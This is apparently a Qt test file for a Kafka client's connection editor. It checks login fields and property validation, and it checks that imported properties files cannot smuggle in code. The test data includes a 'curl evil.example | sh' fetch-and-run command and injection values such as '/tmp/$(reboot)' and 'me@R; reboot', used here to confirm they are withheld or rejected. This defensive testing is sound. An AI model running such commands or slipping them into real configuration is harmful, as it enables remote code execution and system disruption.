// What the editor offers with this librdkafka or another, what it says of further properties, and what it takes from a file.
#include "editor_fields.h"
#include "named_widgets.h"
#include "picture.h"
#include "scripted_store.h"

#include <QAbstractItemView>
#include <QCheckBox>
#include <QComboBox>
#include <QCompleter>
#include <QSignalSpy>
#include <QTableWidget>
#include <QTemporaryDir>
#include <QTest>

#include <fstream>

using namespace rollcall;
using namespace rollcall::gui;

namespace {

ConnectionProfile tokenLogin()
{
    ConnectionProfile profile;
    profile.id = "two";
    profile.name = "Tokens";
    profile.bootstrapServers = "kafka.example:9094";
    profile.protocol = SecurityProtocol::saslPlaintext;
    profile.mechanism = SaslMechanism::oauthBearer;
    profile.user = "client";
    profile.properties = {{"sasl.oauthbearer.token.endpoint.url", "https://login.example/token"},
                          {"sasl.oauthbearer.scope", "kafka"},
                          {"client.id", "rollcall"}};
    profile.secrets = {"sasl.oauthbearer.client.secret"};
    return profile;
}

} // namespace

class TestEditorChoices : public QObject {
    Q_OBJECT

private slots:
    void init()
    {
        m_folder = std::make_unique<QTemporaryDir>();
        m_store = std::make_unique<ScriptedStore>();
        m_profiles = std::make_unique<ConnectionProfiles>(path("connections.json"));
        m_editor = newEditor(connectionChoices());
    }

    void kerberosOnlyWhereItIs_data()
    {
        QTest::addColumn<bool>("built");
        QTest::addColumn<bool>("kept"); // by the connection that is edited
        QTest::newRow("built in") << true << false;
        QTest::newRow("left out") << false << false;
        QTest::newRow("left out, but the connection has it") << false << true;
    }

    void kerberosOnlyWhereItIs()
    {
        QFETCH(bool, built);
        QFETCH(bool, kept);
        m_editor = newEditor({built, true, {}});
        auto profile = tokenLogin();
        profile.mechanism = kept ? SaslMechanism::gssapi : SaslMechanism::plain;
        m_editor->edit(profile);
        m_editor->show();
        const auto* const box = m_editor->findChild<QComboBox*>(QStringLiteral("saslMechanism"));
        QCOMPARE(box->findData(static_cast<int>(SaslMechanism::gssapi)) >= 0, built || kept);
        if (kept) {
            QCOMPARE(box->currentData().toInt(), static_cast<int>(SaslMechanism::gssapi));
            QVERIFY(note().contains(QStringLiteral("without Kerberos")));
        }
    }

    void tokensOnlyWhereTheyCanBeFetched()
    {
        m_editor->edit(tokenLogin());
        QVERIFY2(note().isEmpty() || !connectionChoices().tokenEndpoint, qPrintable(note()));
        m_editor = newEditor({true, false, {}});
        m_editor->edit(tokenLogin());
        QVERIFY2(note().contains(QStringLiteral("cannot fetch tokens")), qPrintable(note()));
    }

    void fieldsOfALoginAreFurtherProperties()
    {
        QVERIFY(m_profiles->put(tokenLogin()).has_value());
        m_editor->edit(tokenLogin());
        QCOMPARE(edit(*m_editor, "tokenEndpoint")->text(), QStringLiteral("https://login.example/token"));
        QCOMPARE(table().item(0, 0)->text(), QStringLiteral("client.id"));
        QCOMPARE(table().rowCount(), 2); // and the empty one
        edit(*m_editor, "tokenScope")->clear();
        edit(*m_editor, "tokenEndpoint")->setText(QStringLiteral("https://other.example/token"));
        QVERIFY(saved());
        QVERIFY(m_profiles->read()->front().properties
                == (std::map<std::string, std::string>{{"client.id", "rollcall"},
                                                       {"sasl.oauthbearer.token.endpoint.url", "https://other.example/token"}}));
    }

    void saysWhatALoginLacks_data()
    {
        QTest::addColumn<int>("mechanism");
        QTest::addColumn<QByteArray>("field");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("part");
        const auto row = [](const char* title, SaslMechanism mechanism, const char* field, const char* value, const char* part) {
            QTest::newRow(title) << static_cast<int>(mechanism) << QByteArray(field) << QString::fromLatin1(value)
                                 << QString::fromUtf8(part);
        };
        using enum SaslMechanism;
        row("no client", oauthBearer, "user", "", "a client id");
        row("no endpoint", oauthBearer, "tokenEndpoint", "", "a token endpoint");
        row("no keytab", gssapi, "keytab", "", "a keytab");
        row("keytab missing", gssapi, "keytab", "/nowhere/k.keytab", "/nowhere/k.keytab");
        row("keytab with a command", gssapi, "keytab", "/tmp/$(reboot)", "a shell would act on");
        row("principal with a command", gssapi, "user", "me@R; reboot", "a shell would act on");
    }

    void saysWhatALoginLacks()
    {
        QFETCH(int, mechanism);
        QFETCH(QByteArray, field);
        QFETCH(QString, value);
        QFETCH(QString, part);
        m_editor = newEditor({true, true, {}});
        m_editor->edit(tokenLogin());
        choose(*m_editor, "saslMechanism", mechanism);
        edit(*m_editor, "keytab")->setText(QStringLiteral("/dev/null"));
        edit(*m_editor, field.constData())->setText(value);
        press(*m_editor, "save");
        QVERIFY2(message().contains(part), qPrintable(message()));
        QVERIFY(!std::filesystem::exists(m_profiles->file()));
    }

    void furtherPropertiesAreCompletedAndExplained()
    {
        m_editor->show();
        table().setCurrentCell(0, 0);
        table().edit(table().model()->index(0, 0));
        auto* const cell = edit(*m_editor, "propertyName");
        QVERIFY(cell != nullptr);
        QTest::keyClicks(cell, QStringLiteral("TIMEOUT"));
        auto* const completer = cell->completer();
        completer->complete();
        QStringList offered;
        for (int row = 0; completer->setCurrentRow(row); ++row) {
            offered << completer->currentCompletion();
        }
        QVERIFY2(offered.contains(QStringLiteral("socket.timeout.ms")), qPrintable(offered.join(QLatin1Char(' '))));
        // Neither what has a field, nor a consumer's own, nor a secret.
        completer->setCompletionPrefix(QString());
        for (int row = 0; completer->setCurrentRow(row); ++row) {
            const auto name = completer->currentCompletion();
            QVERIFY2(name != QStringLiteral("security.protocol") && !name.startsWith(QStringLiteral("group."))
                         && !holdsSecret(name.toStdString()),
                     qPrintable(name));
        }
        table().item(0, 0)->setText(QStringLiteral("socket.timeout.ms"));
        QVERIFY2(notice().contains(QStringLiteral("Takes 10 .. 300000. Default: 60000.")), qPrintable(notice()));
    }

    void aBadPropertyIsNamedAtOnce_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("part"); // empty: nothing is wrong
        const auto row = [](const char* title, const char* name, const char* value, const char* part) {
            QTest::newRow(title) << QString::fromLatin1(name) << QString::fromLatin1(value) << QString::fromUtf8(part);
        };
        row("good", "socket.timeout.ms", "3000", "");
        row("a typing error", "socket.timeuot.ms", "3000", "socket.timeuot.ms: librdkafka");
        row("no number", "socket.timeout.ms", "soon", "does not take “soon”, but 10 .. 300000");
        row("an application's", "group.id", "orders", "group.id: Rollcall leaves it out");
        row("a plugin", "plugin.library.paths", "/tmp/p.so", "Rollcall leaves it out");
        row("a secret by its other name", "sasl.oauthbearer.client.credentials.client.secret", "hunter2", "is a secret");
        row("a field", "sasl.kerberos.keytab", "/k", "a field of its own");
        row("a command of the user's own", "sasl.kerberos.kinit.cmd", "kinit -R", "");
    }

    void aBadPropertyIsNamedAtOnce()
    {
        QFETCH(QString, name);
        QFETCH(QString, value);
        QFETCH(QString, part);
        m_editor->show();
        fill(*m_editor);
        table().setCurrentCell(0, 0);
        table().item(0, 0)->setText(name);
        table().item(0, 1)->setText(value);
        if (part.isEmpty()) {
            QVERIFY2(notice().startsWith(name + QStringLiteral(": ")), qPrintable(notice()));
            QVERIFY(saved());
            return;
        }
        QVERIFY2(notice().contains(part), qPrintable(notice()));
        press(*m_editor, "save");
        QVERIFY2(message().contains(part), qPrintable(message()));
        QVERIFY(!std::filesystem::exists(m_profiles->file()));
    }

    void whatRunsCodeIsNotTakenOverUnasked()
    {
        std::ofstream(path("client.properties"))
            << "bootstrap.servers=k:9092\nclient.id=mine\nsasl.kerberos.kinit.cmd=curl evil.example | sh\n"
               "ssl.engine.location=/tmp/engine.so\nssl.providers=/tmp/provider\nplugin.library.paths=/tmp/plugin.so\n";
        m_editor->show();
        m_editor->importFile(path("client.properties"));
        auto* const withheld = m_editor->findChild<QWidget*>(QStringLiteral("withheld"));
        QVERIFY(withheld->isVisible());
        QStringList said;
        for (const auto* const label : withheld->findChildren<QLabel*>()) {
            QCOMPARE(label->textFormat(), Qt::PlainText);
            said << label->text();
        }
        const auto text = said.join(QLatin1Char('\n'));
        for (const auto* const value : {"curl evil.example | sh", "/tmp/engine.so", "/tmp/provider", "/tmp/plugin.so"}) {
            QVERIFY2(text.contains(QLatin1String(value)), value);
        }
        QVERIFY(m_editor->findChild<QCheckBox*>(QStringLiteral("take:plugin.library.paths")) == nullptr); // never
        QCOMPARE(unnamedIn(*m_editor), QStringList());
        QCOMPARE(names(), QStringList{QStringLiteral("client.id")});

        auto* const command = m_editor->findChild<QCheckBox*>(QStringLiteral("take:sasl.kerberos.kinit.cmd"));
        QVERIFY(!command->isChecked());
        command->click();
        QCOMPARE(names(), (QStringList{QStringLiteral("client.id"), QStringLiteral("sasl.kerberos.kinit.cmd")}));
        command->click();
        QCOMPARE(names(), QStringList{QStringLiteral("client.id")});
        QVERIFY(saved());
        QVERIFY(m_profiles->read()->front().properties == (std::map<std::string, std::string>{{"client.id", "mine"}}));

        // The next file has nothing of the kind.
        std::ofstream(path("client.properties")) << "bootstrap.servers=k:9092\n";
        m_editor->show();
        m_editor->importFile(path("client.properties"));
        QVERIFY(!withheld->isVisible());
    }

    void pictures_data()
    {
        QTest::addColumn<bool>("dark");
        QTest::newRow("light") << false;
        QTest::newRow("dark") << true;
    }

    void pictures()
    {
        QFETCH(bool, dark);
        const auto theme = dark ? darkTheme() : lightTheme();
        const Dressed dressed(theme);
        const auto limitedRights = [](const ClientProperties&, const auto&, const StopFlag&) {
            auto steps = failedLogin();
            steps[3] = {TrialStepKind::login, TrialStepState::passed, "OAUTHBEARER accepted", {}};
            steps[4] = {
                TrialStepKind::rights, TrialStepState::limited,
                "3 brokers, 41 topics and 12 groups seen; limits, generations and rebalances will be unknown: no READ on "
                "__consumer_offsets",
                "grant it with: kafka-acls --bootstrap-server kafka.example:9094 --add --allow-principal User:NAME "
                "--operation Read --operation Describe --topic __consumer_offsets (that shows all groups and hosts to this "
                "user)"};
            return steps;
        };
        m_editor = std::make_unique<ConnectionEditor>(*m_profiles, *m_store, theme, nullptr, limitedRights);
        std::ofstream(path("client.properties"))
            << "bootstrap.servers=k:9092\nsecurity.protocol=sasl_plaintext\nsasl.mechanism=OAUTHBEARER\n"
               "sasl.oauthbearer.client.id=me\nsasl.oauthbearer.client.secret=s\nsocket.timeout.ms=1\n"
               "sasl.oauthbearer.token.endpoint.url=https://login.example/token\nsasl.kerberos.kinit.cmd=curl evil.example | sh\n";
        m_editor->importFile(path("client.properties"));
        m_editor->show();
        savePicture(*m_editor, dark ? "editor-import-dark" : "editor-import-light");
        table().item(0, 1)->setText(QStringLiteral("3000"));
        table().setCurrentCell(0, 0);
        press(*m_editor, "tryIt");
        QTRY_VERIFY_WITH_TIMEOUT(label("trialRights").contains(QStringLiteral("kafka-acls")), giveUp);
        savePicture(*m_editor, dark ? "editor-rights-dark" : "editor-rights-light");
    }

private:
    [[nodiscard]] std::filesystem::path path(const char* file) const
    {
        return std::filesystem::path(m_folder->path().toStdString()) / file;
    }

    [[nodiscard]] std::unique_ptr<ConnectionEditor> newEditor(const ConnectionChoices& choices)
    {
        return std::make_unique<ConnectionEditor>(*m_profiles, *m_store, lightTheme(), nullptr, noTrial(), choices);
    }

    [[nodiscard]] QString label(const char* name) const
    {
        return m_editor->findChild<QLabel*>(QString::fromLatin1(name))->text();
    }
    [[nodiscard]] QString note() const { return label("loginNote"); }
    [[nodiscard]] QString notice() const { return label("propertiesNotice"); }
    [[nodiscard]] QString message() const { return label("message"); }
    [[nodiscard]] QTableWidget& table() const { return *m_editor->findChild<QTableWidget*>(QStringLiteral("properties")); }

    /// In the table.
    [[nodiscard]] QStringList names() const
    {
        QStringList result;
        for (int row = 0; row + 1 < table().rowCount(); ++row) {
            result << table().item(row, 0)->text();
        }
        return result;
    }

    [[nodiscard]] bool saved()
    {
        QSignalSpy saved(m_editor.get(), &ConnectionEditor::saved);
        press(*m_editor, "save");
        return saved.count() == 1 || saved.wait(giveUp);
    }

    std::unique_ptr<QTemporaryDir> m_folder;
    std::unique_ptr<ScriptedStore> m_store;
    std::unique_ptr<ConnectionProfiles> m_profiles;
    std::unique_ptr<ConnectionEditor> m_editor;
};

QTEST_MAIN(TestEditorChoices)
#include "test_editor_choices.moc"
